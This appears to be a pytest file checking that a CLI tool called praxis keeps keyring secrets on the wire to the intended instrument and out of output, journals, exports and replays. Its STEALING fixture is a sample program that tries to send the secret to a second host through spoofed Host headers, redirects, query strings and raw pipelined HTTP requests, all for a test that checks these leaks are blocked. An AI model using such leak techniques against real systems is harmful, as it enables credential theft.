"""Secrets of instruments: on the wire and in the keyring, and nowhere in a run's remains."""

from __future__ import annotations

import base64
import json
import socket
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from bench.certificates import Authority
from tests.cli.command import finish, praxis, start
from tests.cli.homes import home
from tests.keyrings import NONE, keyring_at
from tests.ports.tls_servers import Robot, robot

SECRET = "Correct-Horse-77"
ENCODED = base64.b64encode(f"admin:{SECRET}".encode()).decode()
HIDDEN = [text.encode(form) for text in (SECRET, ENCODED) for form in ("ascii", "utf-16-le")] + [
    SECRET.encode().hex().encode(),
    base64.b64encode(SECRET.encode())[:-4],
]

HTTP = """
import json, time, urllib.request

def main():
    for number in range(4):
        body = json.dumps({"password": "{secret:robot}", "number": number}).encode()
        request = urllib.request.Request("SCHEME://robot:PORT/x", body, {"X-Token": "{secret:robot}"})
        request.add_header("Content-Type", "application/json")
        import base64
        request.add_header("Authorization", "Basic " + base64.b64encode(b"admin:{secret:robot}").decode())
        with urllib.request.urlopen(request, timeout=20) as answer:
            print(answer.read().decode(), flush=True)
        time.sleep(0.6 if number == 1 else 0)
"""
TCP = """
import socket, time

def main():
    with socket.create_connection(("robot", PORT), timeout=20) as s:
        lines = s.makefile("rb")
        for number in range(4):
            s.sendall(b"login {sec")
            time.sleep(0.05)
            s.sendall(b"ret:robot} %d\\n" % number)
            print(lines.readline().decode().strip(), flush=True)
            time.sleep(0.6 if number == 1 else 0)
"""


@pytest.fixture
def kept(tmp_path: Path) -> dict[str, str]:
    """A home whose keyring has the secret ``robot``."""
    env = {**home(tmp_path), **keyring_at(tmp_path / "keyring.json")}
    done = praxis("secrets", "set", "robot", given=SECRET.encode() + b"\n", env=env)
    assert done.code == 0, done.err
    assert SECRET not in done.out + done.err
    return env


@contextmanager
def web(folder: Path, scheme: str) -> Iterator[tuple[str, list[str], dict[str, str]]]:
    """A robot that replies with everything that it received."""
    posted: list[str] = []

    class Echoing(Robot):
        def do_POST(self) -> None:  # noqa: N802 - http.server's name
            body = self.rfile.read(int(self.headers["Content-Length"]))
            heard = [str(self.headers[name]) for name in ("X-Token", "Authorization")]
            posted.append(" ".join([*heard, body.decode()]))
            self._answer(posted[-1].encode())

    authority = Authority(folder)
    context = authority.context("localhost")[0] if scheme == "https" else None
    with robot(context, Echoing) as port:
        yield f"{scheme}://localhost:{port}", posted, {"SSL_CERT_FILE": str(authority.path)}


@contextmanager
def plain(folder: Path, scheme: str) -> Iterator[tuple[str, list[str], dict[str, str]]]:
    """An instrument that answers each line with the same line, byte by byte."""
    heard: list[str] = []

    def serve() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection, connection.makefile("rb") as lines:
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for line in lines:
                    heard.append(line.decode().strip())
                    for at in range(len(line)):
                        connection.sendall(line[at : at + 1])

    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=serve, daemon=True).start()
        yield f"{scheme}://127.0.0.1:{listener.getsockname()[1]}", heard, {}
        with suppress(OSError):  # Windows shuts down connections only, and needs nothing to wake the thread
            listener.shutdown(socket.SHUT_RDWR)


def told(number: int, source: str, secret: str, encoded: str) -> str:
    """Return the data received by an instrument, and the echo that the program sees, with asterisks for the
    secrets.
    """
    if source is TCP:
        return f"login {secret} {number}"
    return f'{secret} Basic {encoded} {{"password": "{secret}", "number": {number}}}'


CASES = [(HTTP, "http"), (HTTP, "https"), (TCP, "tcp")]


def write(folder: Path, source: str, url: str) -> tuple[str, ...]:
    scheme, _, place = url.partition("://")
    program = folder / "asking.py"
    program.write_text(source.replace("SCHEME", scheme).replace("PORT", place.partition(":")[2]))
    return str(program), "--port", f"robot={url}?secret=robot"


def revealing(folder: Path) -> list[str]:
    """Return the files below ``folder`` that have the secret in some form."""
    files = [path for path in folder.rglob("*") if path.is_file() and "cache" not in path.parts]
    assert files
    return [str(path) for path in files if any(form in path.read_bytes() for form in HIDDEN)]


@pytest.mark.parametrize("mode", ["thread", "process"])
@pytest.mark.parametrize(("source", "scheme"), CASES, ids=[scheme for _, scheme in CASES])
def test_the_instrument_gets_the_secret_and_nothing_else_has_it(
    tmp_path: Path, kept: dict[str, str], source: str, scheme: str, mode: str
) -> None:
    with (plain if source is TCP else web)(tmp_path, scheme) as (url, heard, more):
        arguments = (*write(tmp_path, source, url), "--exec-mode", mode, "-v")
        env = {**kept, **more}
        journal = tmp_path / "home" / "traffic"
        ran = praxis("run", *arguments, "--journal", str(journal), env=env)
        assert ran.code == 0, ran.err
    assert heard == [told(number, source, SECRET, ENCODED) for number in range(4)]
    seen = [told(number, source, "*" * len(SECRET), "*" * len(ENCODED)) for number in range(4)]
    assert ran.out.splitlines()[:4] == seen
    shown = praxis("journal", "show", str(journal), env=kept)
    assert ("ret:robot}" if source is TCP else "{secret:robot}") in shown.out
    exported = tmp_path / "home" / "exports"
    done = praxis(
        "history", "export", "last", "--format", "csv,ipynb,json,pdf", "-o", str(exported), env=kept
    )
    assert done.code == 0, done.err
    for archive in exported.rglob("*.zip"):
        with zipfile.ZipFile(archive) as packed:
            packed.extractall(exported / "unpacked")
    replayed = praxis("history", "replay", "last", env={**kept, **NONE})
    assert replayed.code == 0, replayed.err
    assert "identical, bit for bit" in replayed.out
    for said in (ran, shown, done, replayed):
        assert SECRET not in said.out + said.err
        assert ENCODED not in said.out + said.err
    assert revealing(tmp_path / "home") == []


@pytest.mark.parametrize(("source", "scheme"), CASES[::2], ids=["http", "tcp"])
def test_a_killed_run_goes_on_with_its_secret(
    tmp_path: Path, kept: dict[str, str], source: str, scheme: str
) -> None:
    with (plain if source is TCP else web)(tmp_path, scheme) as (url, heard, _):
        run = start("run", *write(tmp_path, source, url), env=kept)
        assert run.stdout is not None
        while (line := run.stdout.readline()) and not (b" 1" in line[-5:] or b": 1}" in line):
            pass
        run.kill()
        run.communicate()
        resumed = start("history", "resume", "last", "--on-prompt", "ask", "--json", env=kept)
        assert resumed.stdout is not None
        event: dict[str, object] = {}
        for line in resumed.stdout:
            event = json.loads(line)
            if event["event"] == "prompt":
                said = praxis("runs", "answer", "last", str(event["number"]), "go_on", env=kept)
                assert said.code == 0, said.err
        finish(resumed)
        assert event["state"] == "completed", event
    assert heard == [told(number, source, SECRET, ENCODED) for number in range(4)]
    replayed = praxis("history", "replay", "last", env={**kept, **NONE})
    assert replayed.code == 0, replayed.err
    assert revealing(tmp_path / "home") == []


@pytest.mark.parametrize("mode", ["thread", "process"])
@pytest.mark.parametrize(
    ("changes", "says"),
    [
        (NONE, ["this computer has no keyring for secrets", "GNOME Keyring or KWallet"]),
        ({}, ["the keyring has no secret 'robot'", "praxis-desktop secrets set robot"]),
    ],
    ids=["no keyring", "no secret"],
)
def test_a_run_without_the_secret_says_what_to_do(
    tmp_path: Path, mode: str, changes: dict[str, str], says: list[str]
) -> None:
    env = {**home(tmp_path), **keyring_at(tmp_path / "keyring.json"), **changes}
    with plain(tmp_path, "tcp") as (url, heard, _):
        ran = praxis("run", *write(tmp_path, TCP, url), "--exec-mode", mode, env=env)
    assert ran.code != 0
    assert all(each in ran.err for each in says), ran.err
    assert heard == []


def test_secrets_are_listed_by_name_and_removed(kept: dict[str, str]) -> None:
    assert praxis("secrets", env=kept).out == "robot\n"
    listed = praxis("secrets", "list", "--json", env=kept)
    assert [each.get("secret") for each in listed.events[:-1]] == ["robot"]
    assert praxis("secrets", "remove", "robot", env=kept).code == 0
    assert praxis("secrets", env=kept).out == ""
    again = praxis("secrets", "remove", "robot", env=kept)
    assert again.code == 2
    assert "the keyring has no secret 'robot'" in again.err
    without = praxis("secrets", env={**kept, **NONE})
    assert without.code == 2
    assert "this computer has no keyring for secrets" in without.err


STEALING = """
import base64, http.client, socket, urllib.request
import pyodide.http

NAME = "{secret:robot}"
ENCODED = base64.b64encode(f"admin:{NAME}".encode()).decode()
FIELDS = {"X-Token": NAME, "Authorization": f"Basic {ENCODED}", "Cookie": NAME}

def asked(host, port, path, fields):
    connection = http.client.HTTPConnection(host, port, timeout=20)
    connection.request("POST", path, NAME, fields)
    return connection.getresponse().read().decode()

def opened(url):
    with urllib.request.urlopen(urllib.request.Request(url, headers=FIELDS), timeout=20) as answer:
        return answer.read().decode()

def sent(host, port, *parts):
    with socket.create_connection((host, port), timeout=20) as s:
        for part in parts:
            s.sendall(part)
        return s.makefile("rb").read().decode()

async def main():
    post = b"POST / HTTP/1.1\\r\\nHost: other:OTHER\\r\\nContent-Length: %d\\r\\n\\r\\n%s"
    post = post.replace(b"Content", b"Connection: close\\r\\nContent")
    whole = f"http://other:OTHER/{NAME}"
    print(asked("other", OTHER, "/", FIELDS))
    print(asked("other", OTHER, f"/?token={NAME}", {}))
    print(asked("other", OTHER, "/", {"Host": "robot:ROBOT", **FIELDS}))
    print(asked("robot", ROBOT, "/", {"Host": "other:OTHER", **FIELDS}))
    print(asked("robot", ROBOT, whole, {}))
    print(opened("http://robot:ROBOT/away"))
    print(pyodide.http.open_url("http://robot:ROBOT/away").read())
    print(await (await pyodide.http.pyfetch("http://robot:ROBOT/away", headers=FIELDS)).text())
    print(sent("other", OTHER, post % (len(NAME), NAME.encode())))
    print(sent("other", OTHER, post[:9], post[9:] % (len(NAME), NAME.encode())))
    print(sent("robot", ROBOT, post % (len(NAME), NAME.encode()) + post % (len(NAME), NAME.encode())))
    print("done")
"""


@pytest.mark.parametrize("mode", ["thread", "process"])
def test_no_other_instrument_and_no_program_gets_a_secret(
    tmp_path: Path, kept: dict[str, str], mode: str
) -> None:
    heard: dict[str, list[str]] = {"robot": [], "other": []}

    def noting(name: str, elsewhere: str) -> type[Robot]:
        class Noting(Robot):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                heard[name].append(f"{self.path} {self.headers}")
                if self.path == "/away":
                    self._answer(b"", {"Location": elsewhere}, status=302)
                else:
                    self._answer(heard[name][-1].encode())

            def do_POST(self) -> None:  # noqa: N802 - http.server's name
                body = self.rfile.read(int(self.headers["Content-Length"])).decode()
                heard[name].append(f"{self.path} {self.headers} {body}")
                self._answer(heard[name][-1].encode())

        return Noting

    with (
        robot(None, noting("other", "")) as other,
        robot(None, noting("robot", f"http://other:{other}/there")) as asked,
    ):
        program = tmp_path / "stealing.py"
        program.write_text(STEALING.replace("ROBOT", str(asked)).replace("OTHER", str(other)))
        ran = praxis(
            *("run", str(program), "--exec-mode", mode),
            *("--port", f"robot=http://127.0.0.1:{asked}?secret=robot"),
            *("--port", f"other=http://127.0.0.1:{other}"),
            env=kept,
        )
    assert ran.code == 0, ran.err
    assert ran.out.splitlines()[-1] == "done"
    assert any(SECRET in each for each in heard["robot"])
    assert len(heard["other"]) == 8
    assert not any(form in each for each in [*heard["other"], ran.out, ran.err] for form in (SECRET, ENCODED))
    assert revealing(tmp_path / "home") == []
